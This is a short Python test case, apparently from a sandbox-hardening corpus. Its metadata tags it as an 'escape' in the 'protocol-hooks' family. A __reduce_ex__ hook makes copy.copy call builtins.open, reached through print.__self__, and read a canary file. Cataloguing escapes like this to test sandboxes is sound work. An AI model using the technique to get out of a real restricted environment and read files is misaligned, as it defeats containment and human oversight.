# id: copy-reduce-hook
# family: protocol-hooks
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: copy takes the answer of __reduce_ex__ as an order to call a function with arguments
# needs: the copy module
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import copy


class Order:
    def __reduce_ex__(self, protocol):
        return print.__self__.open, ("canary.txt",)


print(copy.copy(Order()).read())
